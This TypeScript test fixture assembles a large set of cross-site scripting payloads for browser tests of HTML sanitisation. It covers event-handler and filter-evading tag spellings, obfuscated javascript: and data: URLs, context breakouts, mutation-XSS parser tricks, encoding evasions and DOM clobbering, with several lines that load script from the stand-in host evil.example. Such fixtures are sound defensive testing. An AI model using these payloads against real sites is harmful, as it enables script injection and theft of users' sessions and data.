// Markup that runs a script if a program fails to escape or sanitise it. The script sets a flag, which
// browser tests check.

const RUN = 'window.__ran=1';

const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'input',
  'details',
  'iframe',
  'object',
  'embed',
  'math',
  'a',
  'p',
  'x',
];
const HANDLERS = [
  'onerror',
  'onload',
  'ontoggle',
  'onfocus',
  'onanimationstart',
  'onpointerenter',
  'ONERROR',
  'onbegin',
  'onwheel',
  'onauxclick',
];

/** Markup with every combination of tag and event handler, in spellings that evade filters. */
const handlers = TAGS.flatMap((tag, row) =>
  HANDLERS.map((handler, column) => {
    const writings = [
      `<${tag} src=x ${handler}="${RUN}">`,
      `<${tag} src=x ${handler}=${RUN}//`,
      `<${tag}/src=x/${handler}='${RUN}'>`,
      `<${tag}\n${handler}\n=\n"${RUN}"\nautofocus tabindex=1>`,
      `<${tag} "${handler}=x" ${handler}=&#119;indow.__ran=1>`,
    ];
    return writings[(row + column) % writings.length] as string;
  }),
);

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `&#0000106avascript:${RUN}`,
  `jav&#x09;ascript:${RUN}`,
  `jav&Tab;ascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript:/*--></script>*/${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `//evil.example/x.js`,
  `\\\\evil.example\\x`,
];

const PLACES = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address: string) => `<img srcset="${address} 1x, ${address} 2x">`,
];

/** Each URL scheme, alone and inside markup. */
const schemes = SCHEMES.flatMap((scheme, index) => [
  scheme,
  (PLACES[index % PLACES.length] as (typeof PLACES)[0])(scheme),
  (PLACES[(index + 3) % PLACES.length] as (typeof PLACES)[0])(scheme),
]);

/**
 * Payloads that break out of the surrounding text, or that a parser reads differently when it parses its own
 * output.
 */
const BREAKS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script\u0000>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `" autofocus onfocus="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  '` onerror=`window.__ran=1',
  `x" onmouseover="${RUN}" y="`,
  `';${RUN};'`,
  `";${RUN};"`,
  `\\";${RUN};//`,
  `</SCRIPT>"><svg/onload=${RUN}>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<!--><img src=x onerror=${RUN}>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><mtext><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><style><img src="</style><img src=x onerror=${RUN}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<table><td background="javascript:${RUN}">`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="//evil.example/">`,
  `<style>@import'//evil.example/x.css';</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="//evil.example/x.swf" allowscriptaccess=always>`,
  `<applet code="x"></applet>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/><a id=x><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<video><source onerror="${RUN}"></video>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<img src="x\` onerror=${RUN}">`,
  `<img src=x:x onerror\u000b=${RUN}>`,
  `<img src=x onerror=${RUN} `,
  `<a href=x onclick=${RUN}>x`,
  `<a href="x" target="_blank" rel="opener">x</a>`,
  `<a id=__proto__><a id=__proto__ name=polluted>`,
  `<form id=document><input name=cookie></form>`,
  `<img name=getElementById>`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `<p>${'<b>'.repeat(300)}<img src=x onerror=${RUN}>`,
  `${'<div>'.repeat(600)}<script>${RUN}</script>`,
];

export const MARKUP = [...handlers, ...schemes, ...BREAKS];
